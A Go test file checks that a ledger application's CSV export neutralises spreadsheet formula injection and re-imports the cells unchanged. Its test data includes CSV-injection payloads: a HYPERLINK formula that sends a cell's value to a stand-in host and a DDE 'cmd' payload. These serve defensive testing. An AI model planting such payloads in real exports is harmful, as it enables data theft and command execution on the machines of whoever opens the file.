package ledger

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"testing/quick"

	"rehabdesk/internal/storetest"
	"rehabdesk/store"
)

func TestSafeCellIsUndoneExactly(t *testing.T) {
	for _, s := range []string{"", "'", "''", "=1+1", "'=1+1", "''@x", "-5", "+8613800138000", "\t=x", "\r=x", "张三", "a=b", "'abc"} {
		if got := UnsafeCell(SafeCell(s)); got != s {
			t.Errorf("%q came back as %q", s, got)
		}
		if c := SafeCell(s); formulaStart(c) {
			t.Errorf("%q written as %q, a formula", s, c)
		}
	}
	if err := quick.Check(func(s string) bool { return UnsafeCell(SafeCell(s)) == s && !formulaStart(SafeCell(s)) }, nil); err != nil {
		t.Fatal(err)
	}
}

// readCSVWithPython parses a CSV file with Python's csv module, a reader
// independent of ours.
func readCSVWithPython(t *testing.T, data []byte) [][]string {
	t.Helper()
	if _, err := exec.LookPath("python3"); err != nil {
		if os.Getenv("CI") == "true" {
			t.Fatal("python3 is missing (listed in .ci/run)")
		}
		t.Skip("python3 not installed: the independent CSV reader is skipped")
	}
	path := filepath.Join(t.TempDir(), "x.csv")
	os.WriteFile(path, data, 0o600)
	script := `import csv, json, sys
with open(sys.argv[1], newline="", encoding="utf-8-sig") as f:
    json.dump(list(csv.reader(f)), sys.stdout)`
	out, err := exec.Command("python3", "-c", script, path).Output()
	if err != nil {
		t.Fatalf("python3: %v", err)
	}
	var rows [][]string
	if err := json.Unmarshal(out, &rows); err != nil {
		t.Fatal(err)
	}
	return rows
}

// A ledger whose cells look like formulas is exported with no cell a
// spreadsheet would run, and imported back as the same text.
func TestCSVExportNeutralisesFormulasAndImportsThemBack(t *testing.T) {
	evil := [][]string{
		{"=HYPERLINK(\"http://x.example/?\"&D2,\"点击\")", "-5", "@SUM(A1)"},
		{"+8613800138000", "=cmd|' /C calc'!A0", "-(5)"},
		{"@", "-", "普通地址"},
	}
	var in bytes.Buffer
	in.WriteString(strings.Join(header[:numColumns], ",") + "\n")
	for i, e := range evil {
		row := make([]string, numColumns)
		row[ColName], row[ColSex], row[ColID] = "张三"+string(rune('甲'+i)), "男", storetest.IDNumber("52010219900101"+string(rune('1'+i))+"23")
		row[ColHousehold], row[ColCurrent], row[ColNotes] = e[0], e[1], e[2]
		writeRecord(&in, row)
	}
	s := newStore(t)
	if rep := importBytes(t, s, in.Bytes()); rep.New != len(evil) {
		t.Fatalf("import: %+v", rep)
	}
	out := exportCSV(t, s)
	rows := readCSVWithPython(t, out)
	if len(rows) != len(evil)+1 {
		t.Fatalf("%d rows read back", len(rows))
	}
	for _, r := range rows[1:] {
		for _, c := range r {
			if formulaStart(c) {
				t.Errorf("cell %q would run as a formula", c)
			}
		}
	}
	assertFields(t, s, evil)
	fresh := newStore(t)
	importBytes(t, fresh, out)
	if again := exportCSV(t, fresh); !bytes.Equal(again, out) {
		t.Fatalf("round trip differs:\n%s\n---\n%s", out, again)
	}
	assertFields(t, fresh, evil)
}

func writeRecord(b *bytes.Buffer, row []string) {
	cw := csv.NewWriter(b)
	cw.Write(row)
	cw.Flush()
}

// assertFields checks that each triple of values is held, as text, by one
// person of s.
func assertFields(t *testing.T, s *store.Store, want [][]string) {
	t.Helper()
	persons, err := s.List(context.Background(), store.KindPerson, store.ListFilter{})
	if err != nil {
		t.Fatal(err)
	}
	held := map[string]bool{}
	for _, p := range persons {
		f := p.Fields
		held[f[personFields[ColHousehold]]+"|"+f[personFields[ColCurrent]]+"|"+f[personFields[ColNotes]]] = true
	}
	for _, w := range want {
		if !held[strings.Join(w, "|")] {
			t.Errorf("values %q not held as written; have %v", w, held)
		}
	}
}
